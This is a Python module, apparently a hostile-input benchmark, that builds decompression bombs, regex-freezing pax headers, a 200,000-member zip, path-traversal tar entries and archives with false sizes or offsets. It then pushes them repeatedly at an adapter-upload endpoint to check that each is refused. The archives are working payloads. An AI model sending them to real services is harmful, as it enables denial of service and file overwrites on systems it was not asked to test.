"""Attacks by uploaded archives: bombs, false sizes, header tricks, unusual compression methods."""

import asyncio
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from functools import cache
from pathlib import Path

from benchmarks.hostile.attack import attack
from benchmarks.hostile.attacker import Attacker

CONFIG, WEIGHTS = "adapter_config.json", "adapter_model.safetensors"
EXAMPLES = Path(__file__).resolve().parent.parent.parent / "examples" / "adapters"
MIB = 2**20
# Digits of a pax header without end: quadratic in the regular expression of Python before 3.11.10 and 3.12.6.
DIGITS = 60_000


@cache
def good(adapter: str = "pirate") -> dict[str, bytes]:
    """Return the two files of a demo adapter."""
    return {name: (EXAMPLES / adapter / name).read_bytes() for name in (CONFIG, WEIGHTS)}


def zeros(size: int, head: bytes = b"") -> bytes:
    """Return a gzip file of `head` and this many zeros, made without holding them in memory."""
    out = io.BytesIO()
    with gzip.open(out, "wb", compresslevel=6) as file:
        file.write(head)
        block = bytes(MIB)
        for _ in range(size // MIB):
            file.write(block)
        file.write(bytes(1024))
    return out.getvalue()


def tar_header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(tarfile.GNU_FORMAT if size >= 8**11 else tarfile.USTAR_FORMAT)


@cache
def pax_bomb() -> bytes:
    return zeros(512 * MIB, tar_header("x", 512 * MIB, tarfile.XHDTYPE))


@cache
def long_name_bomb() -> bytes:
    return zeros(512 * MIB, tar_header("x", 512 * MIB, tarfile.GNUTYPE_LONGNAME))


@cache
def pax_freeze() -> bytes:
    return gzip.compress(tar_header("x", DIGITS, tarfile.XHDTYPE) + b"1" * DIGITS + bytes(2048))


@cache
def gzip_bomb() -> bytes:
    """Push a 2 MiB tar of one member that expands beyond the accepted 2 GiB."""
    return zeros(2304 * MIB, tar_header(WEIGHTS, 2303 * MIB))


@cache
def zip_of_many() -> bytes:
    """Push 200,000 empty members in 9 MB; the central directory is packed by hand, because zipfile is slow at it."""
    number, local, central = 200_000, io.BytesIO(), io.BytesIO()
    for index in range(number):
        name = b"%06x" % index
        offset = local.tell()
        local.write(struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name)
        central.write(
            struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset) + name
        )
    head, directory = local.getvalue(), central.getvalue()
    # More entries than 16 bits hold: the end record has 65,535, and readers count the directory themselves.
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, len(directory), len(head), 0)
    return head + directory + end


def zipped(content: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def members(content: dict[str, bytes]) -> bytes:
    """Return a tar without its end."""
    return b"".join(tar_header(name, len(data)) + data + bytes(-len(data) % 512) for name, data in content.items())


def tarred(content: dict[str, bytes]) -> bytes:
    return members(content) + bytes(1024)


@cache
def packed_bombs() -> dict[str, bytes]:
    """Push members of 256 MiB of zeros in a few kilobytes, by methods with long matches; also as a compressed tar."""
    blank = bytes(256 * MIB)
    content = {CONFIG: good()[CONFIG], WEIGHTS: blank}
    bombs = {
        "bz2-member": zipped(content, zipfile.ZIP_BZIP2),
        "lzma-member": zipped(content, zipfile.ZIP_LZMA),
        "deflated-member": zipped(content, zipfile.ZIP_DEFLATED),
    }
    tar = tar_header(WEIGHTS, len(blank)) + blank + bytes(1024)
    return bombs | {"tar-bz2": bz2.compress(tar, 1), "tar-xz": lzma.compress(tar, preset=0)}


@cache
def lies() -> dict[str, bytes]:
    """Push archives whose headers state wrong sizes, offsets and types."""
    content = good()
    archive = zipped(content, zipfile.ZIP_DEFLATED)
    central = archive.index(b"PK\1\2")
    made = {}
    for name, where, value in (
        ("zip-size-small", central + 24, 16),
        ("zip-size-huge", central + 24, 2**32 - 2),
        ("zip-packed-huge", central + 20, 2**31),
        ("zip-offset", central + 42, 2**31),
        ("zip-crc", central + 16, 1),
        ("zip-method", central + 10, 99),
    ):
        lying = bytearray(archive)
        lying[where : where + (2 if name == "zip-method" else 4)] = value.to_bytes(
            2 if name == "zip-method" else 4, "little"
        )
        made[name] = bytes(lying)
    end = archive.rindex(b"PK\5\6")
    lying = bytearray(archive)
    struct.pack_into("<I", lying, end + 16, 2**32 - 2)
    made["zip-directory-offset"] = bytes(lying)
    made["zip-cut"] = archive[: len(archive) // 2] + archive[end:]
    made["tar-32-tib"] = tar_header(WEIGHTS, 2**45)
    made["tar-pax-32-tib"] = tar_header("x", 2**45, tarfile.XHDTYPE)
    made["tar-cut"] = tarred(content)[:2000]
    made["tar-negative"] = tar_header(WEIGHTS, 8**11).replace(b"\x80", b"\xff", 1)
    made["tar-twice"] = members(content) + tarred(content)
    made["tar-sparse"] = tar_header(WEIGHTS, 512, tarfile.GNUTYPE_SPARSE) + bytes(2048)
    made["tar-link"] = tar_header(WEIGHTS, 0, tarfile.SYMTYPE) + bytes(1024)
    made["tar-up"] = tarred({"../../" + WEIGHTS: content[WEIGHTS], CONFIG: content[CONFIG]})
    made["tar-pax-number"] = (
        tar_header("x", 18, tarfile.XHDTYPE) + b"18 size=99999999x\n".ljust(512, b"\0") + bytes(1024)
    )
    made["gzip-cut"] = gzip.compress(tarred(content))[:900]
    made["gzip-tail"] = gzip.compress(tarred(content))[:-8] + bytes(8)
    made["gzip-of-gzip"] = gzip.compress(gzip.compress(tarred(content)))
    return made


async def again_and_again(attacker: Attacker, archives: dict[str, bytes], wide: int = 2) -> None:
    """Push the archives in turn, `wide` at once, until the time is over; each at least once.

    The last pushes may end later: a bomb takes its time when its archive is unpacked.
    """
    names = list(archives)
    done = 0

    async def one() -> None:
        nonlocal done
        while attacker.going or done < len(names):
            name, done = names[done % len(names)], done + 1
            answer = await attacker.refused_upload(name, {"file": archives[name]})
            if answer is None or answer.status in (429, 503):
                await attacker.pause(0.2)

    await asyncio.gather(*(one() for _ in range(wide)))


@attack("pax-bomb", "tar.gz of 0.5 MB with one pax header of 512 MiB", prepare=pax_bomb)
async def send_pax_bomb(attacker: Attacker) -> None:
    await again_and_again(attacker, {"pax-bomb": pax_bomb()})


@attack("long-name-bomb", "tar.gz of 0.5 MB with one GNU long name of 512 MiB", prepare=long_name_bomb)
async def send_long_name_bomb(attacker: Attacker) -> None:
    await again_and_again(attacker, {"long-name-bomb": long_name_bomb()})


@attack("pax-freeze", f"tar.gz with a pax header of {DIGITS:,} digits", prepare=pax_freeze)
async def send_pax_freeze(attacker: Attacker) -> None:
    await again_and_again(attacker, {"pax-freeze": pax_freeze()})


@attack("gzip-bomb", "tar.gz of 2 MB that grows to 2.3 GB", prepare=gzip_bomb)
async def send_gzip_bomb(attacker: Attacker) -> None:
    await again_and_again(attacker, {"gzip-bomb": gzip_bomb()}, wide=1)


@attack("zip-of-many", "zip with 200,000 members", prepare=zip_of_many)
async def send_zip_of_many(attacker: Attacker) -> None:
    await again_and_again(attacker, {"zip-of-many": zip_of_many()})


@attack("packed-members", "bzip2, lzma and deflated members of some KB that grow to 256 MiB", prepare=packed_bombs)
async def send_packed_members(attacker: Attacker) -> None:
    await again_and_again(attacker, packed_bombs())


@attack("lying-archives", "20 zips and tars that lie about sizes, offsets and types", prepare=lies)
async def send_lies(attacker: Attacker) -> None:
    await again_and_again(attacker, lies())
